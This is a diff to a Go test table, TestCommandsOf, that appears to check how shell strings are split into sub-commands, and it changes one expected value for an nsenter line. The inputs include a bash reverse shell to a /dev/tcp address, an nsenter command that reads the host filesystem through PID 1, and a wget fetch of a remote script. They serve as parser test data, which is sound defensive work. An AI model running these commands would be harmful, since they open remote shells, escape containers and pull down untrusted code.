@@ -31,7 +31,7 @@ func TestCommandsOf(t *testing.T) {
 		"echo 'a; b' && true":                     "echo a; b / true",
 		"bash -i >& /dev/tcp/192.0.2.1/443 0>&1":  "bash -i >& /dev/tcp/192.0.2.1/443 0>&1",
 		"it's one quote":                          "it's one quote",
-		"nsenter --target 1 --mount -- cat /etc":  "nsenter --target 1 --mount -- cat /etc",
+		"nsenter --target 1 --mount -- cat /etc":  "nsenter --target 1 --mount -- cat /etc / cat /etc",
 		"bash":                                    "bash",
 		"busybox wget -qO- http://192.0.2.7/a.sh": "wget -qO- http://192.0.2.7/a.sh",
 		"sudo":     "sudo",
